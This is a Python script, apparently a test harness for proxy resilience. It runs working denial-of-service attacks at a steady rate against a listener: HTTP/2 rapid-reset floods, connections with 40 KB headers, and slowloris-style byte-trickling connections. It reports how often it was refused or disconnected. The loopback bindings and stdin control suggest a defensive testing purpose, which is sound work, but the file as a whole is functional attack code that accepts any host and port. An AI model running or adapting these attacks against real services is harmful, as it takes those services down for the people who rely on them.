"""Attacks a listener at a steady rate until its standard input ends. Arguments: KIND HOST:PORT RATE, and NAME CERT KEY where it speaks TLS.

resets: streams of HTTP/2 per second that are opened and reset at once. heads: connections per second, each with a head of 40 KB. slow: connections per
second up to COUNT (a further argument after RATE), each of which says one byte of a head a second. Where nobody listens it goes on trying at that rate.
Says "attacks" after the first tick, and at the end one JSON object: how much it did, and how often it was refused or sent away.
"""
import json
import resource
import select
import socket
import ssl
import struct
import sys
import time

kind, where, rate = sys.argv[1], sys.argv[2], float(sys.argv[3])
rest = sys.argv[4:]
count = int(rest.pop(0)) if kind == "slow" else 0
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
host, port = where.rsplit(":", 1)
told = {"did": 0, "connections": 0, "unreachable": 0, "refused": 0, "ended": 0}
TICK = 0.02

tls = None
if rest:
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.load_cert_chain(rest[1], rest[2])
    tls.set_alpn_protocols(["h2" if kind == "resets" else "http/1.1"])


def connect():
    s = socket.socket()
    # Another source than that of the proxies.
    s.bind(("127.0.0.2" if tls else "127.0.0.1", 0))
    s.settimeout(5)
    try:
        s.connect((host, int(port)))
        if tls:
            s = tls.wrap_socket(s, server_hostname=rest[0])
    except OSError:
        told["unreachable"] += 1
        s.close()
        return None
    told["connections"] += 1
    return s


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def field(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


scheme = b"https" if tls else b"http"
GET = field(b":method", b"GET") + field(b":scheme", scheme) + field(b":authority", b"orders.prod.mesh") + field(b":path", b"/orders/17")
HEAD = b"GET /orders/17 HTTP/1.1\r\nHost: orders.prod.mesh\r\nX: " + b"a" * 40_000 + b"\r\n\r\n"
conn, stream, slow, turn = None, 1, [], 0


def drained(s):
    """Reads what is there; false once the other end has ended."""
    # Not select(), which knows no descriptor beyond 1023.
    ready = select.poll()
    ready.register(s, select.POLLIN)
    while (tls and s.pending()) or ready.poll(0):
        try:
            if not s.recv(65536):
                return False
        except OSError:
            return False
    return True


def resets(n):
    global conn, stream
    if conn is None:
        conn, stream = connect(), 1
        if conn is None:
            return
        conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    out = b""
    for _ in range(n):
        out += frame(1, 5, stream, GET) + frame(3, 0, stream, struct.pack("!I", 8))
        stream += 2
    try:
        conn.sendall(out)
        told["did"] += n
        ok = drained(conn)
    except OSError:
        ok = False
    if not ok:
        told["ended"] += 1
        conn.close()
        conn = None


def heads(n):
    for _ in range(n):
        s = connect()
        if s is None:
            continue
        told["did"] += 1
        try:
            s.sendall(HEAD)
        except OSError:
            pass
        try:
            told["refused"] += s.recv(65536).startswith(b"HTTP/1.1 4")
        except OSError:
            told["ended"] += 1
        s.close()


def slowly(n):
    global turn
    for _ in range(min(n, count - len(slow))):
        s = connect()
        if s is None:
            continue
        s.sendall(b"GET /orders/17 HTTP/1.1\r\nHost: orders.prod.mesh\r\nX: ")
        slow.append(s)
        told["did"] += 1
    # Each connection has its turn once a second.
    for _ in range(int(len(slow) * TICK) + 1):
        if not slow:
            break
        turn = (turn + 1) % len(slow)
        try:
            slow[turn].sendall(b"a")
            gone = not drained(slow[turn])
        except OSError:
            gone = True
        if gone:
            told["ended"] += 1
            slow.pop(turn).close()


act = {"resets": resets, "heads": heads, "slow": slowly}[kind]
at, owed, first = time.monotonic(), 0.0, True
while True:
    owed += rate * TICK
    act(int(owed))
    owed -= int(owed)
    if first:
        first = False
        print("attacks", flush=True)
    at += TICK
    late = time.monotonic() - at
    if late > 1:
        # What could not be done is not made up for.
        at += late
    if select.select([sys.stdin], [], [], max(0, -late))[0]:
        break
told["open"] = len(slow)
print(json.dumps(told))
